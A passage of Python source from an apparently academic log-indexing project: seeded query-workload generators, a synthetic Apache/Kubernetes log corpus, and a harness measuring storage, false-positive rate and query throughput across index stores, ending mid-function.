from .harness import EvalConfig, false_positive_rate, run_eval
from .workloads import ProbeSpec, Workload, WorkloadGenerator

__all__ = [
    "EvalConfig",
    "ProbeSpec",
    "Workload",
    "WorkloadGenerator",
    "false_positive_rate",
    "run_eval",
]
