"""Seeded query-workload generators (paper §5.2 / §6 methodology).

The paper evaluates Multi-Set Multi-Membership Queries under three controlled
knobs; this module makes each one an explicit, *seeded* parameter so every
consumer (the §6 harness, ``benchmarks/bench_error_rate.py``,
``benchmarks/bench_queries.py``) draws from the same distributions:

* **selectivity tier** — hit probes are sampled from the corpus vocabulary by
  containing-line fraction: ``rare`` (≲0.2% of lines), ``mid`` (0.2–2%) and
  ``common`` (≳2%).  Contains-probes re-verify the substring selectivity of
  each sampled candidate against the corpus, so the tier is measured, not
  assumed.
* **hit/miss ratio** — ``hit_ratio`` mixes corpus-drawn probes with absent
  probes (random needles verified absent from every line — the workload the
  FPR tables are built on: any candidate batch for an absent probe is a false
  positive by construction).
* **boolean shape** — :meth:`WorkloadGenerator.boolean_workload` cycles the
  five AST shapes (And / Or / And-Not / Source-And / nested Or-And) over
  tiered vocabulary, absent ids and real source names.

Determinism: every workload is a pure function of ``(dataset, seed, method
parameters)`` — each method derives its own child RNG, so generation order
does not matter and two processes always agree on the byte-identical
workload.
"""

from __future__ import annotations

import re
import zlib
from dataclasses import dataclass, field

import numpy as np

from ..core.querylang import And, Contains, Not, Or, Query, Regex, Source, Term
from ..data.loghub import GeneratedDataset
from ..logstore.tokenizer import tokenize_line

#: selectivity tiers as (lo, hi] containing-line fractions
TIERS = {
    "rare": (0.0, 0.002),
    "mid": (0.002, 0.02),
    "common": (0.02, 1.0),
}

#: absent-probe needle length — long enough that a random draw colliding with
#: the corpus is astronomically unlikely (verified anyway)
ABSENT_LEN = 16

_LETTERS = np.array(list("abcdefghijklmnopqrstuvwxyz"))


@dataclass(frozen=True)
class ProbeSpec:
    """One workload entry: the query plus the knobs it was drawn under."""

    query: Query
    text: str  # probe text for single-atom workloads ("" for boolean shapes)
    kind: str  # "term" | "contains" | "boolean"
    tier: str  # "rare" | "mid" | "common" | "absent" | "mixed"
    expect_hit: bool  # drawn from the corpus (True) or verified-absent (False)


@dataclass
class Workload:
    """A named, seeded list of probes (see :class:`WorkloadGenerator`)."""

    name: str
    kind: str
    seed: int
    specs: list[ProbeSpec] = field(default_factory=list)

    @property
    def queries(self) -> list[Query]:
        return [s.query for s in self.specs]

    def __len__(self) -> int:
        return len(self.specs)

    def __iter__(self):
        return iter(self.specs)


class WorkloadGenerator:
    """Seeded workload factory over one generated dataset.

    Builds the full-token vocabulary (tokenize rules 1–5) with
    containing-line counts once; every ``*_workload`` method then samples
    from it deterministically.  ``seed`` scopes the whole generator; each
    method mixes in its own salt so workloads are independent of call order.
    """

    def __init__(self, dataset, *, seed: int = 0) -> None:
        self.dataset = dataset
        self.seed = seed
        self.n_lines = len(dataset.lines)
        self._lower = [ln.lower() for ln in dataset.lines]
        # one joined haystack: `needle in corpus` is the exact "occurs in any
        # line" test for needles without '\n'
        self._corpus = "\n".join(self._lower)
        counts: dict[str, int] = {}
        for ln in self._lower:
            for t in set(tokenize_line(ln, ngrams=False)):
                counts[t] = counts.get(t, 0) + 1
        #: full token → number of lines containing it as a token
        self.token_lines = counts

    # -- internals -----------------------------------------------------------------

    def _rng(self, *salt: str) -> np.random.Generator:
        return np.random.default_rng(
            [self.seed, *(zlib.crc32(s.encode()) for s in salt)]
        )

    def _tier_tokens(self, tier: str, *, min_len: int = 4) -> list[str]:
        lo, hi = TIERS[tier]
        out = sorted(
            t
            for t, c in self.token_lines.items()
            if len(t) >= min_len and lo < c / self.n_lines <= hi
        )
        if not out:
            raise ValueError(
                f"dataset has no {tier!r}-tier tokens of length >= {min_len} "
                f"({self.n_lines} lines) — enlarge the dataset or relax the tier"
            )
        return out

    def _pick(self, rng: np.random.Generator, pool: list[str]) -> str:
        return str(pool[int(rng.integers(0, len(pool)))])

    def _absent_needles(self, n: int, rng: np.random.Generator) -> list[str]:
        out: list[str] = []
        while len(out) < n:
            needle = "".join(_LETTERS[rng.integers(0, 26, size=ABSENT_LEN)])
            if needle not in self._corpus:  # verified absent from every line
                out.append(needle)
        return out

    def contains_line_count(self, needle: str) -> int:
        """Exact number of lines containing ``needle`` as a substring."""
        return sum(needle in ln for ln in self._lower)

    # -- single-atom workloads -------------------------------------------------------

    def term_workload(
        self, n: int, *, tier: str = "mixed", hit_ratio: float = 1.0
    ) -> Workload:
        """``Term`` probes: full-token membership at a controlled tier.

        ``tier="mixed"`` cycles rare/mid/common; ``hit_ratio`` is the
        fraction of probes drawn from the corpus — the rest are absent
        needles (every candidate batch they produce is a false positive).
        """
        name = f"term[{tier},hit={hit_ratio:g}]x{n}"
        rng = self._rng("term", name)
        tiers = ["rare", "mid", "common"] if tier == "mixed" else [tier]
        pools = {t: self._tier_tokens(t) for t in tiers}
        n_hits = round(n * hit_ratio)
        specs: list[ProbeSpec] = []
        for i in range(n_hits):
            t = tiers[i % len(tiers)]
            text = self._pick(rng, pools[t])
            specs.append(ProbeSpec(Term(text), text, "term", t, True))
        specs += [
            ProbeSpec(Term(needle), needle, "term", "absent", False)
            for needle in self._absent_needles(n - n_hits, rng)
        ]
        return Workload(name=name, kind="term", seed=self.seed, specs=specs)

    def contains_workload(
        self, n: int, *, tier: str = "mixed", hit_ratio: float = 1.0
    ) -> Workload:
        """``Contains`` probes: substring match at a *verified* tier.

        Candidate needles come from the tier's token pool, but a token's
        substring selectivity can exceed its token selectivity (it may occur
        inside longer tokens), so each candidate's containing-line fraction
        is re-measured and the needle is re-tiered before acceptance.
        """
        name = f"contains[{tier},hit={hit_ratio:g}]x{n}"
        rng = self._rng("contains", name)
        tiers = ["rare", "mid", "common"] if tier == "mixed" else [tier]
        pools = {t: self._tier_tokens(t) for t in tiers}
        n_hits = round(n * hit_ratio)
        specs: list[ProbeSpec] = []
        for i in range(n_hits):
            want = tiers[i % len(tiers)]
            # resample until the substring count lands in the wanted tier
            # (bounded: fall back to the closest candidate after 32 draws —
            # the spec is then stamped with its MEASURED tier, never the
            # requested one, so the tier label stays trustworthy)
            best, best_frac = None, None
            for _ in range(32):
                cand = self._pick(rng, pools[want])
                frac = self.contains_line_count(cand) / self.n_lines
                lo, hi = TIERS[want]
                if lo < frac <= hi:
                    best, best_frac = cand, frac
                    break
                if best is None or abs(frac - hi) < abs(best_frac - hi):
                    best, best_frac = cand, frac
            got = next(t for t, (lo, hi) in TIERS.items() if lo < best_frac <= hi)
            specs.append(ProbeSpec(Contains(best), best, "contains", got, True))
        specs += [
            ProbeSpec(Contains(needle), needle, "contains", "absent", False)
            for needle in self._absent_needles(n - n_hits, rng)
        ]
        return Workload(name=name, kind="contains", seed=self.seed, specs=specs)

    def contains_const_workload(self, n: int) -> Workload:
        """Constant-only ``Contains`` probes: alphabetic common-tier words.

        Needles are purely alphabetic tokens from the common tier — the
        vocabulary that lives in template *constants* (message words shared
        by every member line of a template), never in per-line variables
        (IPs, hex ids and counters all carry digits, and random alphabetic
        ids are rare-tier by construction).  This is the workload the
        template payload codec's once-per-template constant matching exists
        for (ISSUE 9): the dictionary settles most templates with a single
        verdict and fans it out to every member line, so the qps gap
        between the ``template`` and ``raw`` codecs here is the measured
        value of that fast path (`docs/results.md` claim check).
        """
        name = f"contains-const x{n}"
        rng = self._rng("contains-const", name)
        pool = [t for t in self._tier_tokens("common") if t.isalpha()]
        if not pool:
            raise ValueError(
                "dataset has no alphabetic common-tier tokens — constant-only"
                " probes need template-constant vocabulary"
            )
        specs: list[ProbeSpec] = []
        for _ in range(n):
            text = self._pick(rng, pool)
            specs.append(ProbeSpec(Contains(text), text, "contains", "common", True))
        return Workload(name=name, kind="contains", seed=self.seed, specs=specs)

    def absent_probes(self, n: int, *, contains: bool) -> Workload:
        """Pure negative probes — the FPR workload (``hit_ratio=0``).

        Every returned needle is verified absent from every line, so a
        correct index must return zero candidate batches; anything more is a
        false positive.  This is the definition the §6 FPR tables and
        ``benchmarks/bench_error_rate.py`` share.
        """
        kind = "contains" if contains else "term"
        name = f"{kind}[absent]x{n}"
        rng = self._rng("absent", name)
        make = Contains if contains else Term
        specs = [
            ProbeSpec(make(needle), needle, kind, "absent", False)
            for needle in self._absent_needles(n, rng)
        ]
        return Workload(name=name, kind=kind, seed=self.seed, specs=specs)

    def absent_ip_probes(self, n: int) -> Workload:
        """§5.2's ``term(IP)`` scenario: absent partial IPs as Term probes.

        Partial IPs like ``192.130.100`` are the paper's membership-sketch
        stress case — their component runs (``192``, ``.``, ``130``) are
        *common* in the corpus, so a partition-folding sketch (CSC) sees
        heavy bit pressure around them while the full dotted token is
        verified absent; any candidate batch is a false positive.  COPR's
        per-token signatures keep its FPR orders of magnitude lower here.
        """
        name = f"term[absent-ip]x{n}"
        rng = self._rng("absent-ip", name)
        specs: list[ProbeSpec] = []
        while len(specs) < n:
            a, b, c = rng.integers(1, 255, size=3)
            needle = f"{a}.{b}.{c}"
            if needle not in self._corpus:
                specs.append(ProbeSpec(Term(needle), needle, "term", "absent", False))
        return Workload(name=name, kind="term", seed=self.seed, specs=specs)

    # -- regex workloads ---------------------------------------------------------------

    #: literal-bearing pattern shapes, cycled in order; each template's
    #: placeholders are filled with single-alphanumeric-run tokens (length
    #: >= 3) so every indexed store — including the run-lexicon inverted
    #: store — can bound the extracted literals
    REGEX_SHAPES = (
        "{a}|{b}",  # alternation: both branches contribute
        "{a}\\d*",  # literal + vacuous repetition
        "{a}.*{b}",  # concat through .*: conjunction of literals
        "(?ai){A}",  # inline ASCII+IGNORECASE folds back to the lower token
        "\\b{a}\\b",  # word boundaries are zero-width riders
        "({a}|{b}).*{c}",  # cross product: branches (a, c) and (b, c)
        "(?:{a}){{1,2}}",  # bounded repetition keeps the min expansion
    )

    #: no extractable literal — every one of these is a forced fallback scan
    DEGENERATE_SHAPES = (r"\d+", r"[a-z]+[0-9]+", r"\w+ \w+", r".?.?er")

    def regex_workload(
        self, n: int, *, tier: str = "mixed", degenerate_ratio: float = 0.0
    ) -> Workload:
        """``Regex`` probes whose extracted literals sit at a controlled tier.

        Pattern templates cycle :data:`REGEX_SHAPES`; their placeholders are
        filled with tier-pool tokens restricted to single alphanumeric runs
        (length >= 3), which is exactly the literal family *every* indexed
        store bounds — so a correct prefilter yields ``fallback_scan=False``
        on all of them.  ``degenerate_ratio`` mixes in
        :data:`DEGENERATE_SHAPES` patterns with no extractable literal
        (``\\d+``-style), the forced-scan regime the throughput tables
        contrast against.
        """
        name = f"regex[{tier},degen={degenerate_ratio:g}]x{n}"
        rng = self._rng("regex", name)
        tiers = ["rare", "mid", "common"] if tier == "mixed" else [tier]
        pools = {
            t: [w for w in self._tier_tokens(t, min_len=3) if w.isalnum()]
            for t in tiers
        }
        for t, pool in pools.items():
            if not pool:
                raise ValueError(f"dataset has no alnum {t}-tier tokens for regex")
        n_degen = round(n * degenerate_ratio)
        specs: list[ProbeSpec] = []
        for i in range(n - n_degen):
            t = tiers[i % len(tiers)]
            shape = self.REGEX_SHAPES[i % len(self.REGEX_SHAPES)]
            a, b, c = (self._pick(rng, pools[t]) for _ in range(3))
            pat = shape.format(a=re.escape(a), b=re.escape(b), c=re.escape(c), A=re.escape(a).upper())
            specs.append(ProbeSpec(Regex(pat), pat, "regex", t, True))
        for i in range(n_degen):
            pat = self.DEGENERATE_SHAPES[i % len(self.DEGENERATE_SHAPES)]
            specs.append(ProbeSpec(Regex(pat), pat, "regex", "degenerate", True))
        return Workload(name=name, kind="regex", seed=self.seed, specs=specs)

    # -- boolean-AST workloads --------------------------------------------------------

    #: the five §6 AST shapes, cycled in order
    SHAPES = ("and2", "or2", "and_not", "source_and", "nested")

    def boolean_workload(self, n: int, *, name: str | None = None) -> Workload:
        """Mixed boolean shapes over tiered vocabulary, absent ids, sources.

        Shape cycle: ``And(common, common)``, ``Or(absent, Term(mid))``,
        ``And(common, Not(common))``, ``And(common, Source)``,
        ``Or(And(common, common), absent)`` — the same family
        ``LogGenerator.structured_queries`` used, now tier-controlled and
        per-shape reproducible.
        """
        name = name or f"boolean x{n}"
        rng = self._rng("boolean", name)
        common = self._tier_tokens("common")
        mid = self._tier_tokens("mid")
        absent = self._absent_needles(max(4, n // 2), rng)
        sources = sorted(set(self.dataset.sources))
        specs: list[ProbeSpec] = []
        for i in range(n):
            shape = self.SHAPES[i % len(self.SHAPES)]
            if shape == "and2":
                q: Query = And(
                    Contains(self._pick(rng, common)), Contains(self._pick(rng, common))
                )
            elif shape == "or2":
                q = Or(Contains(self._pick(rng, absent)), Term(self._pick(rng, mid)))
            elif shape == "and_not":
                q = And(
                    Contains(self._pick(rng, common)),
                    Not(Contains(self._pick(rng, common))),
                )
            elif shape == "source_and":
                q = And(
                    Contains(self._pick(rng, common)), Source(self._pick(rng, sources))
                )
            else:  # nested
                q = Or(
                    And(
                        Contains(self._pick(rng, common)),
                        Contains(self._pick(rng, common)),
                    ),
                    Contains(self._pick(rng, absent)),
                )
            specs.append(ProbeSpec(q, "", "boolean", shape, True))
        return Workload(name=name, kind="boolean", seed=self.seed, specs=specs)


# -- templated corpus tier ---------------------------------------------------------


#: Apache-access / k8s-control-plane shapes: far more variable mass per line
#: than the LogHub templates in ``repro.data`` (IPs, timestamps, hex ids, pod
#: suffixes, byte counts) — the corpus the payload-codec numbers must stay
#: honest on, because most bytes live in variables, not template constants.
TEMPLATED_SHAPES = [
    '{ip} - - [{clf}] "GET {path} HTTP/1.1" {status} {bytes}',
    '{ip} - {uid} [{clf}] "POST /api/v2/{coll}/{hex} HTTP/1.1" {status} {bytes} {ms}ms',
    '{ip} - - [{clf}] "DELETE /admin/{coll}/{num} HTTP/1.1" 403 199',
    "{iso} I kubelet pod/{ns}/{pod} container {coll} started in {ms}ms",
    "{iso} I kubelet pod/{ns}/{pod} probe ok latency={ms}ms",
    "{iso} W scheduler failed to bind pod/{ns}/{pod} to node-{num}: insufficient cpu",
    "{iso} E kube-apiserver etcd request latency {ms}ms exceeds threshold object={coll}/{hex}",
    "{iso} I controller replicaset {coll}-{hex} scaled to {num} replicas",
    "{iso} I kube-proxy syncing {num} iptables rules took {ms}ms node=node-{num}",
]

_TPL_COLLS = ["orders", "users", "events", "billing", "search", "ingest"]
_TPL_NS = ["prod", "staging", "kube-system", "default"]
_TPL_PATHS = ["/index.html", "/health", "/static/app.js", "/favicon.ico", "/metrics"]
_TPL_STATUS = ["200", "200", "200", "204", "301", "404", "500"]
_HEXDIGITS = np.array(list("0123456789abcdef"))


def templated_dataset(
    n_lines: int, *, seed: int = 0, n_sources: int = 24
) -> GeneratedDataset:
    """Seeded, variable-heavy Apache/k8s-style corpus (satellite of ISSUE 9).

    Same :class:`~repro.data.loghub.GeneratedDataset` contract as
    ``make_dataset`` so stores, workload generators and benchmarks consume
    it unchanged; the difference is the byte mix — well over half of every
    line is per-line variable text, which is the regime where template
    mining has to earn its keep (``benchmarks/bench_payload.py`` measures
    both corpora).
    """
    rng = np.random.default_rng([seed, zlib.crc32(b"templated")])

    def ip() -> str:
        a, b, c, d = rng.integers(1, 255, size=4)
        return f"{a}.{b}.{c}.{d}"

    def hexid() -> str:
        return "".join(_HEXDIGITS[rng.integers(0, 16, size=12)])

    def clf() -> str:  # Apache common-log clock, one day of traffic
        s = int(rng.integers(0, 86400))
        return f"09/Aug/2026:{s // 3600:02d}:{s % 3600 // 60:02d}:{s % 60:02d} +0000"

    def iso() -> str:
        s = int(rng.integers(0, 86400))
        ms = int(rng.integers(0, 1000))
        return f"2026-08-09T{s // 3600:02d}:{s % 3600 // 60:02d}:{s % 60:02d}.{ms:03d}Z"

    def pick(pool: list[str]) -> str:
        return pool[int(rng.integers(0, len(pool)))]

    fills = {
        "{ip}": ip,
        "{clf}": clf,
        "{iso}": iso,
        "{hex}": hexid,
        "{uid}": lambda: "".join(_LETTERS[rng.integers(0, 26, size=6)]),
        "{pod}": lambda: f"{pick(_TPL_COLLS)}-{int(rng.integers(0, 1 << 20)):05x}-"
        + "".join(_LETTERS[rng.integers(0, 26, size=5)]),
        "{path}": lambda: pick(_TPL_PATHS),
        "{coll}": lambda: pick(_TPL_COLLS),
        "{ns}": lambda: pick(_TPL_NS),
        "{status}": lambda: pick(_TPL_STATUS),
        "{bytes}": lambda: str(int(rng.integers(64, 1 << 20))),
        "{ms}": lambda: str(int(rng.integers(0, 30000))),
        "{num}": lambda: str(int(rng.integers(0, 512))),
    }

    # heavy-tailed source popularity, per-source template subset — the same
    # production shape make_dataset models, on the variable-heavy templates
    weights = 1.0 / np.arange(1, n_sources + 1) ** 1.4
    weights /= weights.sum()
    src_of_line = rng.choice(n_sources, size=n_lines, p=weights)
    src_of_line.sort()
    subsets = [
        rng.choice(len(TEMPLATED_SHAPES), size=int(rng.integers(3, 7)), replace=False)
        for _ in range(n_sources)
    ]
    lines: list[str] = []
    sources: list[str] = []
    for s in src_of_line:
        tpl = TEMPLATED_SHAPES[int(rng.choice(subsets[s]))]
        while "{" in tpl:
            key = tpl[tpl.index("{") : tpl.index("}") + 1]
            tpl = tpl.replace(key, fills[key](), 1)
        lines.append(tpl)
        sources.append(f"svc-{s:04d}")
    return GeneratedDataset(lines=lines, sources=sources, name=f"templated_{n_lines}")


__all__ = [
    "ABSENT_LEN",
    "ProbeSpec",
    "TEMPLATED_SHAPES",
    "TIERS",
    "Workload",
    "WorkloadGenerator",
    "templated_dataset",
]
