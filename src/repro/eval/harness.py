"""§6 evaluation harness: storage / FPR / throughput over shared workloads.

One driver builds every registered store *persistently* from the same seeded
dataset, reopens each from disk (so all storage numbers are measured from the
:class:`~repro.logstore.persist.StoreDir`, and queries run against the same
mmap'd artifacts a production reopen would use), then sweeps the three paper
claims with the seeded workloads from :mod:`repro.eval.workloads`:

1. **storage** — ``LogStore.storage_breakdown()`` per store: batch payloads,
   per-component index bytes (MPHF / signatures / CSF / postings / bits /
   lexicon), manifest and WAL, summing exactly to the directory size;
2. **false-positive rate** — verified-absent probes; FPR is defined as
   *false-positive candidate batches / (negative probes × known batches)*
   (:func:`false_positive_rate` — the single definition shared with
   ``benchmarks/bench_error_rate.py``);
3. **query throughput** — ``search_many`` in server-sized batches over term /
   contains / boolean / absent workloads, timed windows, p50 latency;
4. **regex prefiltering** — tiered ``Regex`` workloads measured twice, with
   the literal prefilter on and forced to scan (``prefilter=False``); the
   ratio is what the n-gram lowering buys, and the fallback counters prove
   literal-bearing patterns never silently degrade to a scan.

Rows are written as JSON under ``experiments/paper/`` and rendered into
``docs/results.md`` by :mod:`repro.eval.report`.
"""

from __future__ import annotations

import json
import platform
import time
from dataclasses import asdict, dataclass
from pathlib import Path

from ..core.querylang import Regex
from ..data import make_dataset
from ..logstore import create_store, open_store
from ..logstore.batch import COMPRESSION
from .workloads import ProbeSpec, Workload, WorkloadGenerator

#: every registered store, in report order (copr + sharded are "ours");
#: copr-raw is the codec baseline — the same copr index over raw zlib/zstd
#: payloads, so the storage and constant-`Contains` deltas against copr
#: isolate exactly what the template payload codec buys (ISSUE 9)
STORES = ("copr", "copr-raw", "sharded", "csc", "inverted", "scan")

#: report name → (registered store kind, constructor-kwarg delta) for codec
#: baselines; variants share the base kind's index, so FPR rows are skipped
VARIANTS = {"copr-raw": ("copr", dict(payload_codec="raw"))}

STORE_KW = dict(lines_per_batch=64, max_batches=4096)


def scaled_max_batches(n_lines: int) -> int:
    """``max_batches`` for a corpus of ``n_lines``: the committed default
    (4096) until the corpus outgrows it, then the next power of two with ≥2×
    headroom over the expected batch count (``n_lines / lines_per_batch``).
    60k lines keeps 4096 — the committed --full tables are unchanged — while
    the --xl preset's 10⁶ lines gets 32768, still under the paper's 2¹⁶
    posting-id bound."""
    expected = 2 * n_lines // STORE_KW["lines_per_batch"]
    return max(STORE_KW["max_batches"], 1 << expected.bit_length())


def store_kwargs(kind: str, n_lines: int) -> dict:
    """Per-store constructor kwargs for a corpus of ``n_lines``.

    CSC's bit vector is sized to the corpus so the membership sketch is
    actually loaded (§5.1.3): a near-empty CSC shows no false positives but
    wastes the memory the storage table would then report.  ``m`` must be a
    power of two (the modulo is a mask), so 64·n_lines rounds UP to the next
    power — i.e. 64–128 bits/line, fill ≈25–55% depending on where
    ``n_lines`` falls between powers; the FPR table reports the measured
    rate either way.
    """
    base, extra = VARIANTS.get(kind, (kind, {}))
    kw = dict(STORE_KW, max_batches=scaled_max_batches(n_lines))
    if base == "csc":
        kw.update(m_bits=1 << max(14, (64 * n_lines).bit_length()), n_hashes=4, n_partitions=64)
    elif base == "sharded":
        kw.update(n_shards=4, lines_per_segment=1024, flush_on_seal=False)
    kw.update(extra)
    return kw


@dataclass
class EvalConfig:
    """Knobs for one evaluation run (CLI flags map 1:1 onto these)."""

    mode: str = "smoke"  # "smoke" (CI-sized) | "full" (paper-shaped) | "xl" (10⁶ lines)
    dataset_kind: str = "1m"
    n_lines: int = 4_000
    seed: int = 13
    workload_seed: int = 29
    n_probes: int = 32  # per FPR workload (cheap: plan + near-empty verify)
    n_queries: int = 25  # per throughput workload
    batch_size: int = 16  # search_many batch (server-sized)
    measure_s: float = 0.4  # timed window per (store, workload)
    warmup_s: float = 0.1
    out_dir: str = "experiments/paper"
    stores: tuple[str, ...] = STORES
    keep_stores: bool = False  # leave the store dirs on disk for inspection

    @classmethod
    def smoke(cls, **kw) -> "EvalConfig":
        return cls(mode="smoke", **kw)

    @classmethod
    def full(cls, **kw) -> "EvalConfig":
        return cls(
            mode="full",
            n_lines=60_000,
            n_probes=256,
            n_queries=40,
            measure_s=1.0,
            warmup_s=0.2,
            **kw,
        )

    @classmethod
    def xl(cls, **kw) -> "EvalConfig":
        """10⁶-line corpus where the vectorized hot path's speedup curve is
        visible (per-query fixed costs stop dominating).  Writes to its own
        output directory so the committed --full tables stay untouched, and
        sweeps only the sketch stores plus the scan baseline — csc/inverted
        build times at this scale add nothing to the speedup story."""
        kw.setdefault("out_dir", "experiments/paper-xl")
        kw.setdefault("stores", ("copr", "sharded", "scan"))
        return cls(
            mode="xl",
            n_lines=1_000_000,
            n_probes=256,
            n_queries=40,
            measure_s=2.0,
            warmup_s=0.5,
            **kw,
        )


# -- store construction ----------------------------------------------------------------


def build_store_dir(kind: str, dataset, root: Path, stats: dict | None = None):
    """Ingest the dataset into a persistent ``kind`` store, finish, close —
    the directory then holds the finished on-disk layout — and reopen it
    read-only (mmap).  Returns the reopened store.

    Ingest goes through ``ingest_many`` in 8192-line batches — the batched
    write path (slab tokenize, one fingerprint kernel call, bulk insert,
    group-committed WAL).  If ``stats`` is given, ``stats["ingest_s"]`` is
    set to the wall time of the ingest loop alone, so callers can report
    lines/s separately from finish/compact time."""
    import shutil

    # a previous --keep-stores run (or a crashed build) leaves a manifest/WAL
    # here: reopening would either refuse ingest (finished → read-only) or
    # replay the old WAL under the new stream — always start from scratch
    shutil.rmtree(root, ignore_errors=True)
    base_kind = VARIANTS.get(kind, (kind, {}))[0]
    st = create_store(base_kind, path=root, **store_kwargs(kind, len(dataset.lines)))
    t0 = time.perf_counter()
    chunk = 8192
    for i in range(0, len(dataset.lines), chunk):
        st.ingest_many(dataset.lines[i : i + chunk], dataset.sources[i : i + chunk])
    if stats is not None:
        stats["ingest_s"] = time.perf_counter() - t0
    st.finish()
    if hasattr(st, "compact"):
        # §4.3: collapse each shard's sealed segments — the steady state a
        # long-lived deployment converges to (and what the paper measures);
        # uncompacted, every segment re-stores its token fingerprints
        st.compact()
    st.close()
    return open_store(root)


# -- claim 2: false-positive rate -------------------------------------------------------


def false_positive_rate(store, workload: Workload) -> dict:
    """FPR = false-positive candidate batches / (negative probes × batches).

    ``workload`` must be all-negative (``absent_probes`` /
    ``absent_ip_probes``): the probes match no line, so *every* candidate
    batch the planner emits would be decompressed for nothing — the
    numerator counts exactly those, the denominator is the total number of
    (probe, batch) decisions the index made.  This is the one FPR
    definition shared by the §6 tables and
    ``benchmarks/bench_error_rate.py``.

    Candidates are counted straight from the store's ``plan()`` (the index's
    decision — no decompression); needles were verified absent against every
    line at generation time, and the first probe is additionally re-verified
    end-to-end through ``search`` as a cheap exactness guard.
    """
    atoms = []
    for spec in workload:
        if spec.expect_hit:
            raise ValueError(
                f"FPR workload {workload.name!r} contains expected-hit probe "
                f"{spec.text!r} — use absent_probes()/absent_ip_probes()"
            )
        atoms.append((spec.text.lower(), spec.kind == "contains"))
    first = store.search(workload.specs[0].query)
    if first.lines:
        raise ValueError(
            f"probe {workload.specs[0].text!r} of {workload.name!r} matched "
            f"{len(first.lines)} lines — not a negative probe"
        )
    n_batches = len(store.known_batch_ids())
    fp = sum(len(c) for c in store.plan(atoms))
    return {
        "workload": workload.name,
        "n_probes": len(workload),
        "n_batches": n_batches,
        "fp_candidates": fp,
        "fpr": fp / max(1, len(workload) * n_batches),
    }


# -- claim 3: throughput ----------------------------------------------------------------


def measure_throughput(store, workload: Workload, cfg: EvalConfig) -> dict:
    """Queries/s of ``search_many`` in ``cfg.batch_size`` batches, timed
    window with warm-up; also reports p50 per-batch latency and the mean
    candidate-batch count (the work the index saved or failed to save).

    Warm-up runs at least one full pass over the workload (then keeps going
    until ``cfg.warmup_s`` has elapsed): a store with per-batch caches —
    dictionary parses, parsed variable columns — must enter the timed window
    in steady state for *every* query batch, not just the first one, or the
    measured window charges it the one-time cold cost its siblings never
    see again."""
    queries = workload.queries
    batches = [
        queries[i : i + cfg.batch_size]
        for i in range(0, len(queries), cfg.batch_size)
    ]
    t_end = time.perf_counter() + cfg.warmup_s
    w = 0
    while w < len(batches) or time.perf_counter() < t_end:
        store.search_many(batches[w % len(batches)])
        w += 1
    n_queries = 0
    n_candidates = 0
    lat: list[float] = []
    i = 0
    t0 = time.perf_counter()
    t_end = t0 + cfg.measure_s
    while time.perf_counter() < t_end:
        b = batches[i % len(batches)]
        t1 = time.perf_counter()
        results = store.search_many(b)
        lat.append(time.perf_counter() - t1)
        n_queries += len(b)
        n_candidates += sum(r.n_candidate_batches for r in results)
        i += 1
    elapsed = time.perf_counter() - t0
    lat.sort()
    return {
        "workload": workload.name,
        "n_queries": n_queries,
        "qps": n_queries / elapsed,
        "p50_batch_ms": lat[len(lat) // 2] * 1e3,
        "mean_candidates": n_candidates / max(1, n_queries),
    }


def forced_scan(workload: Workload) -> Workload:
    """The same regex workload with the literal prefilter disabled — every
    probe becomes ``Regex(..., prefilter=False)``, the exact-scan baseline
    the regex throughput table divides by."""
    specs = [
        ProbeSpec(
            Regex(s.query.pattern, s.query.flags, prefilter=False),
            s.text,
            s.kind,
            s.tier,
            s.expect_hit,
        )
        for s in workload
    ]
    return Workload(
        name=f"{workload.name}!scan", kind=workload.kind,
        seed=workload.seed, specs=specs,
    )


def measure_regex(store, workload: Workload, cfg: EvalConfig) -> dict:
    """One regex-table row: prefiltered vs forced-scan qps plus planner
    honesty counters.

    ``fallback_scans`` counts probes whose prefilter degenerated to a full
    scan; for a literal-bearing tier this must equal zero on every indexed
    store (the ISSUE 10 claim check in :mod:`repro.eval.report`), and for
    the degenerate mix it must equal exactly the number of degenerate
    probes — no silent over- or under-scanning either way.
    """
    results = store.search_many(list(workload.queries))
    n_fallback = sum(bool(r.fallback_scan) for r in results)
    fast = measure_throughput(store, workload, cfg)
    slow = measure_throughput(store, forced_scan(workload), cfg)
    tiers = {s.tier for s in workload.specs}
    return {
        "workload": workload.name,
        "tier": tiers.pop() if len(tiers) == 1 else "mixed",
        "n_queries": fast["n_queries"],
        "qps": fast["qps"],
        "scan_qps": slow["qps"],
        "speedup": fast["qps"] / slow["qps"] if slow["qps"] else float("inf"),
        "p50_batch_ms": fast["p50_batch_ms"],
        "mean_candidates": fast["mean_candidates"],
        "fallback_scans": n_fallback,
        "n_degenerate": sum(s.tier == "degenerate" for s in workload),
    }


# -- the sweep --------------------------------------------------------------------------


def eval_workloads(gen: WorkloadGenerator, cfg: EvalConfig) -> dict[str, list[Workload]]:
    """The fixed workload suite: FPR (all-negative) and throughput mixes."""
    return {
        "fpr": [
            gen.absent_probes(cfg.n_probes, contains=False),
            gen.absent_ip_probes(cfg.n_probes),
            gen.absent_probes(cfg.n_probes, contains=True),
        ],
        "throughput": [
            gen.term_workload(cfg.n_queries, tier="mixed"),
            gen.contains_workload(cfg.n_queries, tier="mixed"),
            gen.contains_const_workload(cfg.n_queries),
            gen.term_workload(cfg.n_queries, tier="mixed", hit_ratio=0.5),
            gen.boolean_workload(cfg.n_queries),
        ],
        "regex": [
            gen.regex_workload(cfg.n_queries, tier="rare"),
            gen.regex_workload(cfg.n_queries, tier="mid"),
            gen.regex_workload(cfg.n_queries, tier="common"),
            gen.regex_workload(cfg.n_queries, tier="mixed", degenerate_ratio=0.25),
        ],
    }


def run_eval(cfg: EvalConfig, *, store_root: Path | None = None) -> dict[str, list[dict]]:
    """Run the full sweep; returns and persists ``{table: rows}``.

    ``store_root`` overrides where the persistent store directories are
    built.  By default they go to a fresh ``repro-eval-*`` temp directory
    that is removed afterwards; with ``cfg.keep_stores`` they are built
    under ``<out_dir>/stores`` and left on disk for inspection.
    """
    import shutil
    import tempfile

    out_dir = Path(cfg.out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    dataset = make_dataset(cfg.dataset_kind, cfg.n_lines, seed=cfg.seed)
    gen = WorkloadGenerator(dataset, seed=cfg.workload_seed)
    suite = eval_workloads(gen, cfg)

    cleanup = store_root is None and not cfg.keep_stores
    root = Path(
        store_root
        if store_root is not None
        else (out_dir / "stores" if cfg.keep_stores else tempfile.mkdtemp(prefix="repro-eval-"))
    )
    storage_rows: list[dict] = []
    fpr_rows: list[dict] = []
    tp_rows: list[dict] = []
    regex_rows: list[dict] = []
    try:
        for kind in cfg.stores:
            bstats: dict = {}
            t0 = time.perf_counter()
